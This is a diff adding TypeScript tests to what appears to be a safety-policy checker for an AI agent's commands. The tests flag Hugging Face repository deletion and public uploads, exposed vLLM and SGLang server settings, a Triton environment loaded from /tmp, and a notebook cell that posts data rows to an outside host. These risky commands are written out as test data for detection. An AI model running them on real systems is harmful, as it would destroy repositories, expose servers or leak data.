@@ -327,3 +327,122 @@ test("briefs that gather credentials' files, post data to a public forum or buil
     ['our own package built', () => brief('Run python setup.py develop in the repository and run the unit tests.')],
   ]);
 });
+
+test('a Hub repository deleted, squashed or made public asks, by the CLI or by HfApi in Python', async () => {
+  await ready();
+  const python = (code: string) => bash(`uv run python -c "${code}"`);
+  assertEachCaught([
+    ['hf repo delete', () => bash('hf repo delete acme/llama-chat'), 'model-hub-change'],
+    [
+      'HfApi.delete_repo',
+      () => python(`from huggingface_hub import HfApi; HfApi().delete_repo('acme/llama-chat')`),
+      'model-hub-change',
+    ],
+    [
+      'HfApi.super_squash_history',
+      () => python(`from huggingface_hub import HfApi; HfApi().super_squash_history(repo_id='acme/embed-v3')`),
+      'model-hub-change',
+    ],
+    [
+      'a repository created public, then uploaded into',
+      () =>
+        python(
+          `from huggingface_hub import HfApi; a = HfApi(); a.create_repo('acme/rc3', exist_ok=True); a.upload_folder(folder_path='ck', repo_id='acme/rc3')`,
+        ),
+      'model-hub-change',
+    ],
+  ]);
+  assertEachQuiet([
+    ['a private repository created', () => bash('hf repo create acme/rc3 --private')],
+    [
+      'a private repository uploaded into',
+      () =>
+        python(
+          `from huggingface_hub import HfApi; a = HfApi(); a.create_repo('acme/rc3', private=True, exist_ok=True); a.upload_folder(folder_path='ck', repo_id='acme/rc3')`,
+        ),
+    ],
+    ['refs listed', () => python(`from huggingface_hub import HfApi; print(HfApi().list_repo_refs('acme/rc3'))`)],
+  ]);
+});
+
+test("a model server that reads the machine's files for any request, or runs a request's Python, asks", async () => {
+  await ready();
+  assertEachCaught([
+    [
+      "vLLM's local media path at /",
+      () => bash('uv run vllm serve /models/vision --host 127.0.0.1 --allowed-local-media-path /'),
+      'login-turned-off',
+    ],
+    [
+      "SGLang's custom logit processors on every interface",
+      () =>
+        bash(
+          'uv run python -m sglang.launch_server --model-path /models/llama --host 0.0.0.0 --enable-custom-logit-processor',
+        ),
+      'login-turned-off',
+    ],
+  ]);
+  assertEachQuiet([
+    [
+      "vLLM's media path at the test images",
+      () => bash(`uv run vllm serve /models/vision --allowed-local-media-path ${ROOT}/tests/fixtures/images`),
+    ],
+    [
+      'SGLang with custom processors on loopback',
+      () =>
+        bash(
+          'uv run python -m sglang.launch_server --model-path /models/llama --host 127.0.0.1 --enable-custom-logit-processor',
+        ),
+    ],
+    [
+      'SGLang with custom processors behind its API key',
+      () =>
+        bash(
+          'uv run python -m sglang.launch_server --model-path /models/llama --host 0.0.0.0 --api-key k1 --enable-custom-logit-processor',
+        ),
+    ],
+  ]);
+});
+
+test("Triton's Python backend told to run in an environment archive from /tmp asks", async () => {
+  await ready();
+  const envPath = (path: string) =>
+    edit(
+      'deploy/triton/models/router/config.pbtxt',
+      'backend: "python"\n',
+      `backend: "python"\nparameters: {\n  key: "EXECUTION_ENV_PATH",\n  value: {string_value: "${path}"}\n}\n`,
+    );
+  assertEachCaught([['an archive in /tmp', () => envPath('/tmp/router-env.tar.gz'), 'tool-config-loads-code']]);
+  assertEachQuiet([['an archive the image ships', () => envPath('/opt/envs/router-env.tar.gz')]]);
+});
+
+test("a data frame's rows posted to an outside host ask, from a notebook cell or inline code", async () => {
+  await ready();
+  assertEachCaught([
+    [
+      'a notebook cell posting usage rows out',
+      () =>
+        blockingPoliciesOf('NotebookEdit', {
+          notebook_path: `${ROOT}/notebooks/billing.ipynb`,
+          new_source:
+            "import requests\n\nrequests.post('https://hooks.example.net/c', json=usage_df.to_dict(orient='records'))",
+          cell_type: 'code',
+          edit_mode: 'insert',
+        }),
+      'data-out-to-host',
+    ],
+  ]);
+  assertEachQuiet([
+    [
+      "rows posted to the organisation's own host",
+      () =>
+        bash(
+          `python3 -c "import requests; requests.post('https://metrics.corp.internal/c', json=df.to_dict(orient='records'))"`,
+        ),
+    ],
+    [
+      'a chat message posted',
+      () => bash(`python3 -c "import requests; requests.post('https://hooks.example.net/x', json={'text': 'done'})"`),
+    ],
+  ]);
+});
